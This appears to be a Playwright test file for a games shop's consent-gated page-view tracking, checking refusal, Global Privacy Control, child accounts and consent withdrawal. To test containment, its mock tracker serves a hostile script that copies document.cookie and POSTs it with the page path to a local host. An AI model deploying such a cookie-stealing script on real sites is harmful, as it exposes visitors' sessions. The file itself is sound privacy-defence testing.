import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { registeredPlayer, signIn } from '../support/journey.js';
import { expect, test } from '../support/own-shop.js';
import { clockIsOff, DAY } from '../support/sessions.js';

const TOOL_PORT = 3487;
const TOOL = `http://127.0.0.1:${TOOL_PORT}`;

test.use({
  locale: 'es-CL',
  viewport: { width: 1280, height: 900 },
  shopEnv: { PAGE_VIEW_TRACKER_URL: `${TOOL}/script.js`, PAGE_VIEW_TRACKER_ID: 'ludoteca' },
});

/** A tool as others make them: it reports the page, and would take what it could get. */
const SCRIPT = `document.cookie = 'follows=you'; localStorage.setItem('a', document.cookie);
fetch('${TOOL}/hit', { method: 'POST', mode: 'no-cors', body: location.pathname + ' ' + document.cookie });`;

let tool: Server;
let hits: string[] = [];
test.beforeAll(async () => {
  tool = createServer((request, reply) => {
    if (request.url === '/script.js') return void reply.setHeader('content-type', 'text/javascript').end(SCRIPT);
    let body = '';
    request.on('data', (part) => (body += part));
    request.on('end', () => {
      hits.push(body.trim());
      reply.setHeader('access-control-allow-origin', '*').end();
    });
  });
  await new Promise<void>((done) => tool.listen(TOOL_PORT, '127.0.0.1', done));
});
test.afterAll(() => new Promise((done) => tool.close(done)));
test.beforeEach(() => {
  hits = [];
});

/** Every request of this visitor to anyone but the shop. */
function requestsToOthers(page: Page, shop: string): string[] {
  const requested: string[] = [];
  page.context().on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== shop) requested.push(url.href);
  });
  return requested;
}

const question = (page: Page) => page.getByRole('dialog', { name: '¿Podemos contar las visitas?' });
const PUBLIC = ['/es', '/es/games', '/es/games/volcan-despierto', '/es/cookies'];
const PRIVATE = ['/cart', '/subscription', '/login', '/register', '/payment', '/webgame/el-taller-de-fuerzas'];

test('before an answer, and after a no, only the shop is asked for anything', async ({ page, shop }) => {
  const requested = requestsToOthers(page, shop.url);
  for (const path of [...PUBLIC, '/cart', '/login']) await page.goto(path, { waitUntil: 'networkidle' });
  await page.goto('/es');
  await expect(question(page)).toBeVisible();
  await question(page).getByRole('button', { name: 'No, gracias' }).click();
  await expect(question(page)).toBeHidden();
  for (const path of PUBLIC) await page.goto(path, { waitUntil: 'networkidle' });

  await expect(question(page)).toBeHidden();
  expect([requested, hits]).toEqual([[], []]);
});

test('after a yes public pages are counted, in a closed frame; play, payment and account never; a withdrawal counts at once', async ({
  page,
  shop,
}) => {
  await page.goto('/es');
  await question(page).getByRole('button', { name: 'Sí, permitir' }).click();
  await expect.poll(() => hits).toEqual(['/measuring/page-views/es']);
  await page.getByRole('navigation', { name: 'Principal' }).getByRole('link', { name: 'Juegos' }).click();
  await expect.poll(() => hits).toEqual(['/measuring/page-views/es', '/measuring/page-views/es/games']);
  expect(await page.context().cookies()).not.toContainEqual(expect.objectContaining({ name: 'follows' }));

  hits = [];
  const requested = requestsToOthers(page, shop.url);
  for (const path of PRIVATE) await page.goto(path, { waitUntil: 'networkidle' });
  expect([requested.filter((url) => url.startsWith(TOOL)), hits]).toEqual([[], []]);

  await page.goto('/es/cookies');
  await expect.poll(() => hits).toEqual(['/measuring/page-views/es/cookies']);
  await expect(page.getByText('permitida', { exact: true })).toBeVisible();
  await page.getByRole('button', { name: 'Retirar el permiso' }).click();
  await expect(page.getByText('no permitida', { exact: true })).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  hits = [];
  for (const path of PUBLIC) await page.goto(path, { waitUntil: 'networkidle' });
  expect(hits).toEqual([]);
});

test('a browser that refuses everywhere is not asked and not measured', async ({ page, shop }) => {
  const requested = requestsToOthers(page, shop.url);
  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
  for (const path of PUBLIC) await page.goto(path, { waitUntil: 'networkidle' });

  await expect(page.getByText('Tu navegador envía la señal Global Privacy Control.')).toBeVisible();
  await expect(question(page)).toBeHidden();
  expect([requested, hits]).toEqual([[], []]);
});

test('a child who logs in after another person said yes is not measured', async ({ page }) => {
  await page.goto('/es');
  await question(page).getByRole('button', { name: 'Sí, permitir' }).click();
  await expect.poll(() => hits.length).toBe(1);
  await signIn(page, await registeredPlayer(page.request, new Date().getFullYear() - 10));

  hits = [];
  for (const path of PUBLIC) await page.goto(path, { waitUntil: 'networkidle' });
  await expect(page.getByText('En tu cuenta no se mide nada.')).toBeVisible();
  expect(hits).toEqual([]);
});

test('the account keeps the answer with its version, and a withdrawal there counts in this browser', async ({
  page,
}) => {
  await signIn(page, await registeredPlayer(page.request, 1990));
  await page.goto('/es');
  await question(page).getByRole('button', { name: 'Sí, permitir' }).click();
  await expect.poll(() => hits).toEqual(['/measuring/page-views/es']);

  await page.goto('/account/privacy');
  const answer = page
    .locator('div')
    .filter({ has: page.getByText('Medición de visitas', { exact: true }) })
    .last();
  await expect(answer).toContainText('Aceptaste la versión 2026-11-27');
  await page.getByRole('button', { name: 'Retirar el permiso' }).click();
  await expect(page.getByText(/No lo permites desde el/)).toBeVisible();
  hits = [];
  for (const path of PUBLIC) await page.goto(path, { waitUntil: 'networkidle' });
  await expect(page.getByText('no permitida', { exact: true })).toBeVisible();
  expect(hits).toEqual([]);
});

test('a withdrawal counts, in this browser and in the account, by a clock that is a day slow', async ({
  page,
  context,
}) => {
  await clockIsOff(context, -DAY);
  await signIn(page, await registeredPlayer(page.request, 1990));
  await page.goto('/es');
  await question(page).getByRole('button', { name: 'Sí, permitir' }).click();
  await expect.poll(() => hits).toEqual(['/measuring/page-views/es']);

  await page.goto('/es/cookies');
  await page.getByRole('button', { name: 'Retirar el permiso' }).click();
  await expect(page.getByText('no permitida', { exact: true })).toBeVisible();
  await page.goto('/es', { waitUntil: 'networkidle' });
  await page.goto('/account/privacy');
  await expect(page.getByText(/No lo permites desde el/)).toBeVisible();
  await page.goto('/es/cookies', { waitUntil: 'networkidle' });
  await expect(page.getByText('no permitida', { exact: true })).toBeVisible();
});
